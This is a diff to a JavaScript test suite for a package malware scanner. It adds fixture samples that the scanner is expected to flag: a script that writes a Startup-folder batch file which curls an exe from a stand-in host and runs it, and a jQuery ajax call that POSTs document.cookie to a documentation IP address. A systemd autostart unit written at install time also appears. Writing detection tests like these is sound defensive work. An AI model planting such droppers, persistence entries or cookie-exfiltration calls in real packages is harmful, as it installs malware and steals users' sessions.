@@ -668,6 +668,17 @@ describe('files and places real payloads of 2025 used', () => {
     expect(['high', 'critical']).toContain(image.level);
   });
 
+  it("a .bat written into the Startup folder that downloads an exe on one line and starts it on the next is a dropper (Socket's @typescript-eslinter shape)", () => {
+    const r = scan({ 'index.js': `const fs = require('fs'), path = require('path');\nconst startup = path.join(process.env.APPDATA || '', 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup');\nconst bat = ['@echo off', 'curl -s -o "%TEMP%\\\\p.exe" "https://cdn.example.org/p.exe"', 'start "" /b "%TEMP%\\\\p.exe"'].join('\\r\\n');\nfs.writeFileSync(path.join(startup, 'p.bat'), bat);\n` }, { main: 'index.js' });
+    expect(r.ids).toEqual(expect.arrayContaining(['remote-code/writtenDropper', 'persistence/write']));
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it("jQuery's ajax reached through the module the file requires (`(function ($) {…})(require('jquery'))`) is a request", () => {
+    const r = scan({ 'index.js': `(function ($) {\n  $.ajax({ url: 'http://203.0.113.80/s', type: 'POST', data: { c: document.cookie } });\n})(require('jquery'));\n` }, { main: 'index.js' });
+    expect(r.ids).toContain('exfiltration/flow');
+  });
+
   it('a systemd user unit written at install is an autostart entry', () => {
     const r = scan({ 'i.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.config/systemd/user');\nfs.mkdirSync(dir, { recursive: true });\nfs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/node-helper.service'), '[Service]\\nExecStart=/usr/bin/python3 -c x\\n');\n` }, { scripts: { postinstall: 'node i.js' } });
     expect(r.ids).toContain('persistence/write');
